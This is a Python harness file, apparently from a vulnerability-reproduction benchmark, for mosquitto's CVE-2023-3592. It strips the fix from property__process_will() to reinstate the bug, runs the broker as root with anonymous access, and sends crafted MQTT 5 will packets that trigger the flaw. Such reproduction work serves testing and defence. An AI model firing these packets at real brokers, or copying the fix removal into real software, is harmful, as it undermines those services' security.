# SPDX-License-Identifier: Apache-2.0
"""mosquitto, a server: 2.0.16 and Debian's 2.0.11-1.2+deb12u1 free a will's properties after one that does not belong
there (CVE-2023-3592): property__process_will() hands them over before it fails."""
import os
import socket
import struct

SOURCE = "mosquitto"
KIND = "server"
PRODUCTS = ["src/mosquitto"]
LISTENS = True
FIX = "2.0.16, CVE-2023-3592: properties of a refused will, `property__process_will()`"
PLACES = r"^(property__read|property__read_all|packet__read_(binary|string)|will__read)$"
LOAD = "MQTT 5 connections whose will has a property that a will may not have, and 20 clients that publish"


def take_out(tree):
    tree.replace_line("src/property_broker.c", r"^int property__process_will\(", r"^\t+msg->properties = msg_properties;$", which=1, of=2)


def build(tree):
    tree.sh("make -j2 -C src CFLAGS='-O2 -g' WITH_TLS=no WITH_CJSON=no WITH_DOCS=no WITH_STRIP=no WITH_SYSTEMD=no WITH_WEBSOCKETS=no")


def command(products, service):
    service.write("mosquitto.conf", f"listener {service.port} 127.0.0.1\nallow_anonymous true\nuser root\n")
    return [os.path.join(products, "mosquitto"), "-c", service.at("mosquitto.conf")]


def text(value):
    return struct.pack(">H", len(value)) + value


def packet(kind, body):
    length, left = b"", len(body)
    while True:
        length += bytes([left % 128 + (128 if left > 127 else 0)])
        left //= 128
        if not left:
            return bytes([kind]) + length + body


def variable(value):
    return packet(0, bytes(value))[1:-value] if value else b"\0"


def connect(identifier, will):
    flags = 0x06 if will is not None else 0x02
    body = text(b"MQTT") + bytes([5, flags]) + struct.pack(">H", 60) + b"\0" + text(identifier)
    if will is not None:
        body += variable(len(will)) + will + text(b"gone") + text(b"bye")
    return packet(0x10, body)


def load(service):
    refused = b"\x26" + text(b"who") + text(b"x" * 3000) + b"\x1f" + text(b"a reason")
    clients = []
    for number in range(20):
        client = socket.create_connection(("127.0.0.1", service.port))
        client.settimeout(5)
        client.sendall(connect(b"client%d" % number, None))
        client.recv(100)
        client.sendall(packet(0x82, struct.pack(">H", 1) + b"\0" + text(b"room/%d" % (number % 4)) + b"\0"))
        client.setblocking(False)
        clients.append(client)
    for number in service.ticks(100):
        with socket.create_connection(("127.0.0.1", service.port)) as client:
            client.settimeout(5)
            client.sendall(connect(b"refused%d" % number, refused))
            client.recv(100)
        client = clients[number % len(clients)]
        try:
            client.sendall(packet(0x30, text(b"room/%d" % (number % 4)) + b"\0" + b"y" * (number * 37 % 2000)))
        except BlockingIOError:
            pass
        for client in clients:
            try:
                client.recv(65536)
            except BlockingIOError:
                pass
    for client in clients:
        client.close()
